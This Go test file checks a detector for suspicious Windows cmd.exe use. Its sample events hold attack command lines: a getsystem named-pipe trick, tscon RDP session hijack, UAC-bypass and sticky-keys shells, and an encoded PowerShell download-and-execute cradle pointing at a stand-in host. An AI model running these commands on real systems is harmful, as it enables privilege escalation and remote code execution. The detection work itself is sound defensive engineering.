package analyzers

import "testing"

const services = `C:\Windows\System32\services.exe`

// atTime sets an event's time.
func atTime(e ev, ts string) ev { e.ts = ts; return e }

func TestCommandShellDetections(t *testing.T) {
	runTable(t, []tableCase{
		{"getsystem named pipe from services", []ev{security4688(cmd, services, `cmd.exe /c echo fzxvjh > \\.\pipe\fzxvjh`)},
			"T1059.003", "high", "cmd.exe writes into a named pipe (getsystem)"},
		{"echo into a file is not a pipe", []ev{security4688(cmd, expl, `cmd.exe /c echo done > C:\logs\done.txt`)},
			"T1059.003", "", ""},
		{"tscon session hijack", []ev{sysmon1(cmd, services, `cmd.exe /k tscon 2 /dest:rdp-tcp#55`)},
			"T1059.003", "high", "cmd.exe runs tscon to take over an RDP session"},
		{"tscon query is quiet", []ev{sysmon1(cmd, expl, `cmd.exe /c query session`)}, "T1059.003", "", ""},
		{"start /min of a dropped batch file", []ev{security4688(cmd, expl, `cmd /c start /min C:\Users\Public\run.bat`)},
			"T1059.003", "medium", "cmd.exe starts a batch file minimised: run.bat"},
		{"start of a program is not a batch", []ev{security4688(cmd, expl, `cmd /c start /min notepad.exe`)}, "T1059.003", "", ""},
		{"cmd /c powershell -enc decoded", []ev{security4688(cmd, expl, `cmd /c powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`)},
			"T1059.003", "high", "cmd.exe starts PowerShell with an encoded payload: download"},
		{"cmd /c powershell plain", []ev{security4688(cmd, expl, `cmd /c powershell -File C:\scripts\report.ps1`)}, "T1059.003", "", ""},
		{"shell from lsass", []ev{security4688(cmd, `C:\Windows\System32\lsass.exe`, `cmd.exe`)}, "T1059.003", "high", "cmd.exe started by lsass.exe (system process)"},
		{"shell from spoolsv", []ev{security4688(cmd, `C:\Windows\System32\spoolsv.exe`, `cmd.exe /c whoami`)}, "T1059.003", "high", "cmd.exe started by spoolsv.exe (print spooler)"},
		{"sticky keys", []ev{security4688(cmd, `C:\Windows\System32\winlogon.exe`, `cmd.exe sethc.exe 211`)}, "T1059.003", "high", "cmd.exe started by winlogon.exe (logon process)"},
		{"fodhelper uac bypass", []ev{sysmon1(cmd, `C:\Windows\System32\fodhelper.exe`, `cmd.exe /c start C:\Users\Public\x.exe`)}, "T1059.003", "high", "cmd.exe started by fodhelper.exe (auto-elevating program)"},
		{"compiled help", []ev{sysmon1(cmd, `C:\Windows\hh.exe`, `cmd.exe /c calc`)}, "T1059.003", "high", "cmd.exe started by hh.exe (compiled HTML help)"},
		{"notepad starting a shell", []ev{sysmon1(cmd, `C:\Windows\System32\notepad.exe`, `cmd.exe`)}, "T1059.003", "high", "cmd.exe started by notepad.exe (desktop program that never starts a shell)"},
		{"winrm remote shell", []ev{sysmon1(cmd, `C:\Windows\System32\winrshost.exe`, `cmd.exe /c ipconfig`)}, "T1059.003", "medium", "cmd.exe started by winrshost.exe (remote shell host (WinRM))"},
		{"svchost masquerade", []ev{sysmon1(cmd, `C:\Users\Public\svchost.exe`, `cmd.exe`)}, "T1059.003", "high", "cmd.exe started by svchost.exe (svchost.exe outside System32)"},
		{"real svchost is no parent finding", []ev{sysmon1(cmd, `C:\Windows\System32\svchost.exe`, `cmd.exe /c gpupdate`)}, "T1059.003", "", ""},
		{"seed analytic: cmd /c is informational", []ev{security4688(cmd, expl, `cmd.exe /c dir`)},
			"T1059.003", "informational", "cmd.exe ran 1 command with /c, /k or a batch file on 2024-03-05, started by explorer.exe"},
		{"seed analytic: batch file anywhere", []ev{security4688(cmd, expl, `cmd.exe /c "C:\Program Files\App\nightly.cmd"`)},
			"T1059.003", "informational", "cmd.exe ran 1 command with /c, /k or a batch file on 2024-03-05, started by explorer.exe"},
		{"seed analytic: 4688 and Sysmon 1 of one start are one command", []ev{
			atTime(security4688(cmd, expl, `cmd.exe /c dir`), "2024-03-05T10:00:00.100Z"),
			atTime(sysmon1(cmd, expl, `cmd.exe /c dir`), "2024-03-05T10:00:00.130Z")},
			"T1059.003", "informational", "cmd.exe ran 1 command with /c, /k or a batch file on 2024-03-05, started by explorer.exe"},
		{"seed analytic: two starts in one log are two commands", []ev{
			atTime(sysmon1(cmd, expl, `cmd.exe /c dir`), "2024-03-05T10:00:00.100Z"),
			atTime(sysmon1(cmd, expl, `cmd.exe /c dir`), "2024-03-05T10:00:00.900Z")},
			"T1059.003", "informational", "cmd.exe ran 2 commands with /c, /k or a batch file on 2024-03-05, started by explorer.exe"},
		{"seed analytic: records too far apart are two starts", []ev{
			atTime(security4688(cmd, expl, `cmd.exe /c dir`), "2024-03-05T10:00:00Z"),
			atTime(sysmon1(cmd, expl, `cmd.exe /c dir`), "2024-03-05T10:00:05Z")},
			"T1059.003", "informational", "cmd.exe ran 2 commands with /c, /k or a batch file on 2024-03-05, started by explorer.exe"},
		{"new parent on the last day", []ev{
			atTime(security4688(cmd, expl, `cmd.exe`), "2024-03-01T10:00:00Z"),
			atTime(security4688(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe /c whoami`), "2024-03-20T10:00:00Z")},
			"T1059.003", "low", "cmd.exe started by agent.exe, a parent new on the host's last day"},
		{"parent seen before is not new", []ev{
			atTime(security4688(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe`), "2024-03-01T10:00:00Z"),
			atTime(security4688(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe /c whoami`), "2024-03-20T10:00:00Z")},
			"T1059.003", "", ""},
		{"no baseline, no new parent", []ev{atTime(security4688(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe`), "2024-03-20T10:00:00Z")},
			"T1059.003", "", ""},
	})
}
